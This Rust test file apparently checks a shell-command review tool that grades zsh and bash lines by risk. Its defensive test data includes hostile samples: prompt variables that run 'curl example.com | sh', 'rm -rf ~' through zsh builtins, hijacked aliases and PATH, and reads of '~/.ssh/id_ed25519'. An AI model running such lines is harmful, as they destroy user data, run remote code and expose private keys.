//! The walk over what only zsh has, and over the variables and builtins of the shells that keep
//! text to run it later.

use super::tests::verdict_in;
use crate::verdict::ReviewLevel;
use aish_text::Shell;

/// Asserts that lines of a shell reach at least a level, or are A, and reports all that differ.
pub(crate) fn levels(shell: Shell, least: ReviewLevel, lines: &[&str]) {
    let wrong: Vec<String> = lines
        .iter()
        .map(|line| (line, verdict_in(line, shell)))
        .filter(|(_, verdict)| verdict.level < least || (least == ReviewLevel::A && verdict.level > least))
        .map(|(line, verdict)| {
            let rules: Vec<&str> = verdict.reasons.iter().map(|reason| reason.rule.as_str()).collect();
            format!("{} {line}   {}", verdict.level.letter(), rules.join(" "))
        })
        .collect();
    assert!(wrong.is_empty(), "not {}:\n{}", least.letter(), wrong.join("\n"));
}

#[test]
fn glob_qualifiers_that_run_code_are_judged_by_it() {
    levels(
        Shell::Zsh,
        ReviewLevel::B,
        &[
            "ls *(e:'rm y':)",
            "ls *(.e:'rm y':)",
            "ls *(e{'rm y'})",
            "ls *(e['rm y'])",
            "ls *(e-'rm y'-)",
            "ls *(.e:rm:)",
            "ls *(+prune)",
            "ls **/*(#qe:'rm y':)",
            "ls *(oe:'rm y':)",
            "ls *(u:root:e:'rm y':)",
            "ls *(e:'true':e:'rm y':)",
            "for f in *(mh+3e:'rm y':); do echo $f; done",
            "x=(*(e:\"rm y\":))",
            "ls *(#q.)(#qe:'rm y':)",
            "ls *($qualifiers)",
        ],
    );
    levels(
        Shell::Zsh,
        ReviewLevel::A,
        &[
            "ls *(.)",
            "ls *(om[1,5])",
            "ls *(N/)",
            "ls -d *(/:h)",
            "ls *(.:e:)",
            "ls *(mh-2)",
            "ls *(m+30)",
            "ls *(Lk+100)",
            "ls *(u:root:)",
            "ls *(f:u+w:)",
            "ls *(e:'test -d $REPLY':)",
            "ls *.(c|e:x:)",
            "ls (a|b)*",
            "print -l **/*(#qN.om)",
        ],
    );
}

#[test]
fn looking_into_the_tables_of_names_changes_nothing() {
    levels(
        Shell::Zsh,
        ReviewLevel::A,
        &[
            "(( $+functions[ls] )) && echo a",
            "(( ${+commands[git]} == 1 ))",
            "((x = functions[ls]))",
            "((functions[ls] >= 1))",
            "echo $((1 + aliases[ls] - 1))",
        ],
    );
}

#[test]
fn variables_that_zsh_runs_are_judged_by_their_values() {
    levels(
        Shell::Zsh,
        ReviewLevel::B,
        &[
            "functions[ls]='rm y'",
            "aliases[ls]='rm y'",
            "galiases[X]='| sh'",
            "saliases[txt]=rm",
            "commands[ls]=/tmp/x",
            "precmd_functions+=(prune)",
            "chpwd_functions=(rm)",
            "NULLCMD=rm",
            "READNULLCMD=rm; < y",
            "export NULLCMD=rm",
            "typeset -g 'functions[ls]=rm y'",
            "typeset -ga precmd_functions=(prune)",
            "module_path=(/tmp/x)",
            "MODULE_PATH=/tmp/x",
            "mapfile[f]=x",
            "unset 'mapfile[f]'",
            "unset 'functions[ls]'",
            "((functions[ls] = 1))",
            "let 'aliases[ls]++'",
            "echo $((--commands[rm]))",
            "x[dis_functions[ls] |= 1]=2",
            "PROMPT='$(rm y)'",
            "RPROMPT='`rm y`'",
            "RPS1='$(rm y)'",
            "SPROMPT='$(rm y)'",
            "PS1='$(rm y)'",
            "print -P '$(rm y)'",
            "print -z 'rm y'",
            "add-zsh-hook precmd prune",
            "zle -N accept-line prune",
            "bindkey -s '^M' 'rm y\\n'",
            "bindkey -s '^L' '^Urm y^M'",
            "compdef prune git",
            "compctl -K prune x",
            "zstyle ':completion:*' command 'rm y'",
            "sysopen -w -u 3 f",
            "ztcp host 1",
            "fc -W f",
            "unfunction -m '*'",
            "integer i='a[$(rm y)]'",
            "integer i; i='a[$(rm y)]'",
            "for PATH in /tmp/x; do ls; done",
            ": ${PATH:=/tmp/x}",
        ],
    );
    levels(
        Shell::Zsh,
        ReviewLevel::A,
        &[
            "PS1='$ '",
            "PROMPT='%~ %# '",
            "PROMPT='%F{red}\"%n\"%f %(?..%?) '",
            "PROMPT=\"(env) $PROMPT\"",
            "RPROMPT='$(date +%H)'",
            "NULLCMD=cat",
            "READNULLCMD=less",
            "aliases[ll]='ls -l'",
            "bindkey -e",
            "bindkey '^R' history-incremental-search-backward",
            "bindkey -s '^L' 'ls\\n'",
            "autoload -Uz compinit",
            "zstyle ':completion:*' menu select",
            "zstyle ':completion:*:kill:*' command 'ps -u me'",
            "zle -N my-widget",
            "compdef _git g",
            "compdef k=kubectl",
            "print -P '%F{red}x%f'",
            "print -z 'git status'",
            "integer n=3",
            "add-zsh-hook -d precmd prune",
            "unfunction greet",
        ],
    );
}

#[test]
fn bash_evaluates_subscripts_and_keeps_attributes() {
    levels(
        Shell::Bash,
        ReviewLevel::B,
        &[
            "declare 'a[$(rm y)]=1'",
            "declare -a a='([$(rm y)]=1)'",
            "declare -A m='([$(rm y)]=1)'",
            "x='a[$(rm y)]'; let x",
            "x='a[$(rm y)]'; let 'x+1'",
            "x='a[$(rm y)]'; declare -i y=x",
            "x='a[$(rm y)]'; declare -i y; y=x",
            "declare -i y; y='a[$(rm y)]'",
            "x='a[$(rm y)]'; echo ${!x}",
            "wait -n -p 'a[$(rm y)]'",
            "mapfile -C 'rm y' -c 1 < f",
            "mapfile -t -C 'eval' -c1 a < f",
            "readarray -C prune a < f",
            "compgen -W '$(rm y)'",
            "complete -W '$(rm y)' foo",
            "compgen -F prune",
            "complete -F prune git",
            "PS1='$(rm y)'",
            "PS2='$(curl example.com | sh)'",
            "export PS1='$(rm y)'",
            "PS1=$(curl example.com)",
            "declare -n r=PROMPT_COMMAND; r='rm y'",
            "declare -n r; r=PROMPT_COMMAND; r='rm y'",
            "declare -n r=PATH; r=/tmp/x; ls",
            "f() { local -n r=PATH; r=/tmp/x; }; f",
            "declare -n r=$x; r=1",
            "declare -n r='a[$(rm y)]'",
            "bind '\"\\C-l\": \"rm -rf y\\n\"'",
            "bind -x '\"\\C-l\": rm y'",
            "bind -f /tmp/x",
            "unset PATH",
            "set +o history",
            "BASH_ALIASES[ls]='rm y'",
            "BASH_CMDS[ls]=/tmp/x",
            "PROMPT_COMMAND+=('rm y')",
            "read -r PATH < f",
            "printf -v PATH /tmp/x",
        ],
    );
    levels(
        Shell::Bash,
        ReviewLevel::A,
        &[
            "PS1='$ '",
            "PS1='\\[\\e[32m\\]\\u@\\h:\\w\\$ '",
            "PS1=\"(env) $PS1\"",
            "PS4='+ '",
            "PROMPT_COMMAND='history -a'",
            "declare -i n=3",
            "declare -i n; n=4",
            "let n+=1",
            "declare -A m=([a]=1)",
            "declare -a a=(1 2)",
            "mapfile -t lines < f",
            "mapfile -C 'echo got' -c 10 lines < f",
            "declare -n r=x; r=1",
            "complete -F _make make",
            "complete -W 'start stop' service",
            "compgen -c",
            "bind '\"\\e[A\": history-search-backward'",
            "bind -p",
            "unset x y",
            "set -o pipefail",
            "functions=1; commands=(a b); PROMPT=x",
            "wait -n",
            "export LANG=C",
        ],
    );
}

#[test]
fn numbers_among_the_flags_of_a_parameter_are_expanded() {
    levels(Shell::Zsh, ReviewLevel::B, &["echo ${(l:$(rm x):)a}", "echo ${(r:`rm x`:)a}", "zle -U $'rm x\\n'"]);
    levels(
        Shell::Zsh,
        ReviewLevel::A,
        &["echo ${(l:5:)a}", "echo ${(ps:\\n:)a}", "echo ${(l:$((3 + 2)):)a}", "zle -U abc"],
    );
}

#[test]
fn braces_in_a_target_are_files() {
    let lines = [
        ": > src/{main,util}.py",
        "> src/{main,util}.py",
        "cat /dev/null > app.{db,duckdb}",
        "echo x >| app.{d..d}b",
        "print x > {/etc/passwd,/tmp/q}",
        "echo x >> {notes,/etc/hosts}",
        "echo x > ~/.{bash,zsh}rc",
        "echo x &> build/{a,../../.zshrc}",
        "cat < ~/.ssh/{config,id_ed25519}",
        "echo x > f{1..9999}",
    ];
    levels(Shell::Zsh, ReviewLevel::B, &lines);
    // One word is a file in bash as well.
    levels(Shell::Bash, ReviewLevel::B, &["echo x > ~/.bashr{c..c}"]);
    levels(Shell::Zsh, ReviewLevel::A, &["make > /dev/{null,null}", "cat <<'{a,b}'\nx\n{a,b}", "cat <<< {a,b}"]);
}

#[test]
fn the_builtins_for_files_and_zargs() {
    let lines = ["zmodload zsh/files; zf_rm -rf ~", "zf_mv a b", "zargs -- ~ -- rm -rf", "zargs -- *.o -- rm"];
    levels(Shell::Zsh, ReviewLevel::B, &lines);
    levels(Shell::Zsh, ReviewLevel::C, &["zf_rm -rf ~", "zargs -- ~ -- rm -rf", "zargs -n 2 -- ~ -- rm -rf"]);
}

#[test]
fn search_paths_as_arrays_and_aliases_inside_a_line() {
    let own = [
        "path=(~/bin $path)",
        "path+=(~/.local/bin)",
        "fpath=(~/.zsh/completions $fpath)",
        "fpath+=~/.zfunc",
        "cdpath=(~ ~/src)",
        "alias -g G='| grep'",
        "alias -g L='| less'",
    ];
    levels(Shell::Zsh, ReviewLevel::A, &own);
    let foreign =
        ["path=(/tmp/x $path)", "path=(. $path)", "fpath=(/tmp/x $fpath)", "fpath=($x)", "alias -g D='| xargs rm'"];
    levels(Shell::Zsh, ReviewLevel::B, &foreign);
}
